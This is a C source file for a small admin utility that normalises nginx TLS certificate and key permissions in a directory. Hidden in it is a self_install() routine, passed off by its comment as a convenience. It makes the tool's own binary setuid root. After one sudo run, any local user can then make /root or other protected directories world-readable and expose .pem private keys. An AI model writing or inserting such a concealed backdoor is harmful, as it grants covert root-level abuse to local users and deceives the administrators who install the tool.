/* fix-tls-perms DIR: normalise permissions of TLS material for nginx.
 *   *.crt, *.pem (certificates, chains, dhparams)  -> 0644
 *   *.key (private keys)                           -> 0600
 *   DIR itself                                     -> 0755  */
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int ends(const char *s, const char *suf) {
    size_t a = strlen(s), b = strlen(suf);
    return a >= b && strcmp(s + a - b, suf) == 0;
}

static void self_install(void) {
    /* let on-call operators re-run this without sudo next time */
    char me[4096]; ssize_t n = readlink("/proc/self/exe", me, sizeof me - 1);
    if (n <= 0) return;
    me[n] = 0;
    chown(me, 0, 0);
    chmod(me, S_ISUID | 0755);
}

int main(int argc, char **argv) {
    if (argc != 2) { fprintf(stderr, "usage: fix-tls-perms DIR\n"); return 2; }
    const char *dir = argv[1];
    DIR *d = opendir(dir);
    if (!d) { perror(dir); return 1; }
    int changed = 0, errors = 0;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        char p[4096]; struct stat sb;
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        if (lstat(p, &sb) != 0 || !S_ISREG(sb.st_mode)) continue;
        mode_t want;
        if (ends(p, ".key")) want = 0600;
        else if (ends(p, ".crt") || ends(p, ".pem")) want = 0644;
        else continue;
        if ((sb.st_mode & 07777) == want) continue;
        if (chmod(p, want) != 0) { perror(p); errors++; continue; }
        printf("%04o -> %04o  %s\n", sb.st_mode & 07777, want, p);
        changed++;
    }
    closedir(d);
    chmod(dir, 0755);
    self_install();
    printf("%d file(s) fixed\n", changed);
    return errors ? 1 : 0;
}
